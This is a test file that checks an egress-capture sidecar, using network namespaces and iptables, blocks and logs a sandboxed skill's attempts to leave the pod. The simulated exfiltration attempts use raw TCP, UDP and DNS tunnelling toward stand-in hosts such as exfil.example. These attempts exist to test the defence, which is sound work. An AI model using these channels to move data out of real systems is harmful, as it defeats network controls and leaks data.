// Egress capture is real: the init container's iptables rules (egressCaptureRules from
// @skillgate/webhook, the single source of truth) applied in a network namespace this test creates,
// with the sidecar running as its UID and a stand-in skill as another. The only other host is a
// test host in a second namespace of ours (fake Claude on :8080, an exfiltration endpoint on :9090,
// the pod's DNS resolver on :53, named in the pod's resolv.conf through /etc/netns/<pod>/).
// Needs root, iproute2 and iptables (.ci/run installs iptables).
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync, chmodSync, rmSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { randomBytes } from 'node:crypto';
import readline from 'node:readline';
import { egressCaptureRules } from '@skillgate/webhook';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const CLI = path.join(ROOT, 'packages/cli/dist/src/main.js');
const SIDECAR_UID = 1337;
const SKILL_UID = 1000;
const canRun = process.getuid?.() === 0 && spawnSync('iptables', ['--version']).status === 0;
if (!canRun) console.warn('egress capture test skipped: needs root and iptables (apt-get install iptables)');
const maybe = canRun ? describe : describe.skip;

function sh(args) {
  const r = spawnSync(args[0], args.slice(1), { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`${args.join(' ')} failed: ${r.stderr || r.stdout}`);
  return r.stdout;
}

/** Spawn a long-running process and resolve once a stdout line satisfies `ready`. */
function startProcess(args, env, ready, label) {
  const child = spawn(args[0], args.slice(1), { env, stdio: ['pipe', 'pipe', 'pipe'] });
  const lines = [];
  const rl = readline.createInterface({ input: child.stdout });
  let stderr = '';
  child.stderr.on('data', (d) => (stderr += d));
  const started = new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`${label} did not start: ${stderr}`)), 30000);
    rl.on('line', (line) => {
      lines.push(line);
      if (ready(line)) {
        clearTimeout(timer);
        resolve();
      }
    });
    child.on('exit', (code) => reject(new Error(`${label} exited with ${code}: ${stderr}`)));
  });
  return { child, lines, started, rl };
}

maybe('egress capture in a network namespace', () => {
  const id = randomBytes(3).toString('hex');
  const pod = `sgpod-${id}`;
  const host = `sghost-${id}`;
  const subnet = `10.213.${parseInt(id.slice(0, 2), 16)}`;
  const podIp = `${subnet}.1`;
  const hostIp = `${subnet}.2`;
  let tmp;
  let testHost;
  let sidecar;

  beforeAll(async () => {
    tmp = mkdtempSync(path.join(tmpdir(), 'sg-egress-'));
    chmodSync(tmp, 0o777);
    writeFileSync(path.join(tmp, 'upstream-key'), 'sk-ant-upstream-e2e\n', { mode: 0o644 });
    sh(['ip', 'netns', 'add', pod]);
    sh(['ip', 'netns', 'add', host]);
    sh(['ip', 'link', 'add', `sgp${id}`, 'type', 'veth', 'peer', 'name', `sgh${id}`]);
    sh(['ip', 'link', 'set', `sgp${id}`, 'netns', pod]);
    sh(['ip', 'link', 'set', `sgh${id}`, 'netns', host]);
    for (const [ns, dev, ip] of [[pod, `sgp${id}`, podIp], [host, `sgh${id}`, hostIp]]) {
      sh(['ip', '-n', ns, 'link', 'set', 'lo', 'up']);
      sh(['ip', '-n', ns, 'addr', 'add', `${ip}/30`, 'dev', dev]);
      sh(['ip', '-n', ns, 'link', 'set', dev, 'up']);
    }
    // A default route (a DNS query to any address must be routable to be captured) and the pod's
    // resolv.conf, which `ip netns exec` mounts over /etc/resolv.conf for the sidecar and the skill.
    sh(['ip', '-n', pod, 'route', 'add', 'default', 'via', hostIp]);
    mkdirSync(`/etc/netns/${pod}`, { recursive: true });
    writeFileSync(`/etc/netns/${pod}/resolv.conf`, `nameserver ${hostIp}\nsearch team-a.svc.cluster.local svc.cluster.local\n`);
    // Exactly the rules the skillgate-init container applies.
    const rules = egressCaptureRules({ sidecarUid: SIDECAR_UID, excludeOutboundPorts: [] });
    for (const rule of rules.ipv4) sh(['ip', 'netns', 'exec', pod, 'iptables', '-w', ...rule]);
    for (const rule of rules.ipv6) sh(['ip', 'netns', 'exec', pod, 'ip6tables', '-w', ...rule]);

    testHost = startProcess(['ip', 'netns', 'exec', host, process.execPath, path.join(ROOT, 'e2e/egress/test-host.mjs'), hostIp],
      { ...process.env }, (l) => l === 'ready', 'test host');
    await testHost.started;

    sidecar = startProcess(
      ['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SIDECAR_UID}`, `--regid=${SIDECAR_UID}`, '--clear-groups', process.execPath, CLI, 'sidecar'],
      {
        PATH: process.env.PATH, HOME: tmp,
        SKILLGATE_UPSTREAM_URL: `http://${hostIp}:8080`,
        SKILLGATE_UPSTREAM_API_KEY_FILE: path.join(tmp, 'upstream-key'),
        SKILLGATE_RECORD_DIR: path.join(tmp, 'records'),
        SKILLGATE_EGRESS_ALLOW: 'allowed.example:443,orders:80',
        SKILLGATE_LOG_LEVEL: 'info',
      },
      (l) => l.includes('sidecar listening'), 'sidecar');
    await sidecar.started;
  });

  afterAll(() => {
    testHost?.child.kill('SIGTERM');
    sidecar?.child.kill('SIGTERM');
    spawnSync('ip', ['netns', 'del', pod]);
    spawnSync('ip', ['netns', 'del', host]);
    rmSync(`/etc/netns/${pod}`, { recursive: true, force: true });
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  /** Run a command to completion without blocking the event loop (jest timeouts keep working). */
  function run(args, env) {
    return new Promise((resolve) => {
      const child = spawn(args[0], args.slice(1), { env });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      child.on('close', (status) => resolve({ status, stdout, stderr }));
    });
  }

  async function hostReport() {
    const line = new Promise((resolve, reject) => {
      testHost.rl.once('line', resolve);
      testHost.child.once('exit', (code) => reject(new Error(`test host exited with ${code}`)));
    });
    testHost.child.stdin.write('dump\n');
    return JSON.parse(await line);
  }

  it('lets the skill reach Claude only through the sidecar, and refuses and logs everything else', async () => {
    const skill = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
      process.execPath, path.join(ROOT, 'e2e/egress/skill.mjs'), hostIp],
    { PATH: process.env.PATH, HOME: tmp, ANTHROPIC_BASE_URL: 'http://127.0.0.1:15001' });
    expect(skill.stderr).toBe('');
    const result = JSON.parse(skill.stdout);

    // 1. Through the sidecar: answered by fake Claude.
    expect(result.viaSidecar.status).toBe(200);
    expect(result.viaSidecar.body).toContain('hello from the skill');
    // 2. "Directly" to the Claude host: captured and handed to the sidecar's pipeline, credential swapped.
    expect(result.directClaude.status).toBe(200);
    // 3. Exfiltration endpoint: refused by the egress proxy with a message that says why.
    expect(result.exfil.status).toBe(403);
    expect(result.exfil.body).toContain(`${hostIp}:9090`);
    expect(result.exfil.body).toContain('egress allowlist');

    const seen = await hostReport();
    expect(seen.exfil).toEqual([]);
    expect(seen.claude.length).toBeGreaterThanOrEqual(2);
    // The test host only ever saw the sidecar's credential, never the skill's.
    expect(seen.claude.every((r) => r.apiKey === 'sk-ant-upstream-e2e')).toBe(true);
    // The refused attempt is in the sidecar's log with its destination.
    const denied = sidecar.lines.map((l) => { try { return JSON.parse(l); } catch { return {}; } })
      .find((l) => l.msg === 'egress denied' && l.destination === `${hostIp}:9090`);
    expect(denied).toMatchObject({ allowed: false, method: 'POST' });
    // ...and in the session record, as an egress event of this skill.
    const sessions = path.join(tmp, 'records', 'sessions');
    const events = readdirSync(sessions).flatMap((f) => readFileSync(path.join(sessions, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l)));
    expect(events.find((e) => e.kind === 'egress' && e.data.destination === `${hostIp}:9090`)).toMatchObject({ data: { allowed: false } });
    // The Claude requests are recorded too, with the sidecar's credential nowhere in them.
    expect(events.filter((e) => e.kind === 'request').length).toBeGreaterThanOrEqual(2);
    expect(JSON.stringify(events)).not.toContain('sk-ant-upstream-e2e');
  });

  it('refuses the skill\'s UDP (what QUIC or a raw datagram would use), and lets the sidecar\'s UID through', async () => {
    const send = (uid, text) => run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${uid}`, `--regid=${uid}`, '--clear-groups',
      process.execPath, '-e', `
        const s = require('node:dgram').createSocket('udp4');
        s.send(${JSON.stringify(text)}, 9091, '${hostIp}', (err) => { console.log(JSON.stringify(err ? 'error ' + err.code : 'sent')); setTimeout(() => s.close(), 200); });
        s.on('error', (e) => { console.log(JSON.stringify('error ' + e.code)); s.close(); });`],
    { PATH: process.env.PATH, HOME: tmp });
    const fromSkill = await send(SKILL_UID, 'UDP EXFIL');
    const fromSidecar = await send(SIDECAR_UID, 'sidecar datagram');
    expect(fromSidecar.stdout).toContain('sent');
    await new Promise((r) => setTimeout(r, 300));
    const seen = await hostReport();
    expect(seen.udp.map((h) => h.data)).toEqual(['sidecar datagram']);
    expect(fromSkill.stdout).toMatch(/EPERM|error/);
  });

  it('gives the skill no way around the capture with a raw TCP connection to another port', async () => {
    const raw = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
      process.execPath, '-e', `
        const s = require('node:net').connect(9090, '${hostIp}', () => s.write('RAW EXFIL\\r\\n\\r\\n'));
        let out = ''; s.on('data', (d) => out += d); s.on('close', () => console.log(JSON.stringify(out)));
        s.on('error', (e) => console.log(JSON.stringify('error ' + e.code)));`],
    { PATH: process.env.PATH, HOME: tmp });
    const out = JSON.parse(raw.stdout);
    expect(out).not.toContain('stolen');
    const seen = await hostReport();
    expect(seen.exfil).toEqual([]);
  });

  it('resolves only names the skill may reach: any other DNS query, UDP or TCP, to any resolver, is answered in the pod and never leaves it', async () => {
    const probe = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
      process.execPath, '-e', `
        const dns = require('node:dns'), dgram = require('node:dgram'), net = require('node:net');
        const query = (name) => {
          const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
          return Buffer.concat([Buffer.from([0x51, 0x51, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
        };
        const rcode = (answer) => answer.readUInt16BE(2) & 0xf;
        const lookup = (name) => dns.promises.lookup(name, { family: 4 }).then((r) => r.address, (e) => 'error ' + e.code);
        const udpAsk = (name, server) => new Promise((resolve) => {
          const s = dgram.createSocket('udp4');
          const t = setTimeout(() => { s.close(); resolve('timeout'); }, 3000);
          s.on('message', (m) => { clearTimeout(t); s.close(); resolve(rcode(m)); });
          s.on('error', (e) => { clearTimeout(t); s.close(); resolve('error ' + e.code); });
          s.send(query(name), 53, server);
        });
        const tcpAsk = (name, server) => new Promise((resolve) => {
          const q = query(name); const len = Buffer.alloc(2); len.writeUInt16BE(q.length);
          const s = net.connect(53, server, () => s.write(Buffer.concat([len, q])));
          s.setTimeout(3000, () => { s.destroy(); resolve('timeout'); });
          s.on('data', (d) => { s.destroy(); resolve(rcode(d.subarray(2))); });
          s.on('error', (e) => resolve('error ' + e.code));
        });
        (async () => console.log(JSON.stringify({
          allowed: await lookup('allowed.example'),
          shortName: await lookup('orders'),
          exfil: await lookup('c3RvbGVuLWRhdGE.exfil.example'),
          otherResolverUdp: await udpAsk('udp-tunnel.exfil.example', '192.0.2.53'),
          podResolverTcp: await tcpAsk('tcp-tunnel.exfil.example', '${hostIp}'),
          allowedTcp: await tcpAsk('allowed.example', '${hostIp}'),
        })))();`],
    { PATH: process.env.PATH, HOME: tmp });
    expect(probe.stderr).toBe('');
    const result = JSON.parse(probe.stdout);
    expect(result).toEqual({ allowed: hostIp, shortName: hostIp, exfil: 'error ENOTFOUND', otherResolverUdp: 3, podResolverTcp: 3, allowedTcp: 0 });
    // The pod's resolver saw the allowed names only (asked by the sidecar; a short service name through
    // the search list), no tunnel.
    const seen = await hostReport();
    expect(seen.dns).toEqual([
      { name: 'allowed.example', transport: 'udp' }, { name: 'orders.team-a.svc.cluster.local', transport: 'udp' }, { name: 'allowed.example', transport: 'tcp' },
    ]);
    // Each refused name is in the sidecar's log and in the record, as the skill's egress attempt.
    const denied = sidecar.lines.map((l) => { try { return JSON.parse(l); } catch { return {}; } })
      .filter((l) => l.msg === 'egress denied' && String(l.method).startsWith('DNS')).map((l) => l.destination);
    expect(denied).toEqual(expect.arrayContaining(['c3rvbgvulwrhdge.exfil.example', 'udp-tunnel.exfil.example', 'tcp-tunnel.exfil.example']));
    const sessions = path.join(tmp, 'records', 'sessions');
    const events = readdirSync(sessions).flatMap((f) => readFileSync(path.join(sessions, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l)));
    expect(events.find((e) => e.kind === 'egress' && e.data.destination === 'c3rvbgvulwrhdge.exfil.example')).toMatchObject({ data: { method: 'DNS A', allowed: false } });
  });
});
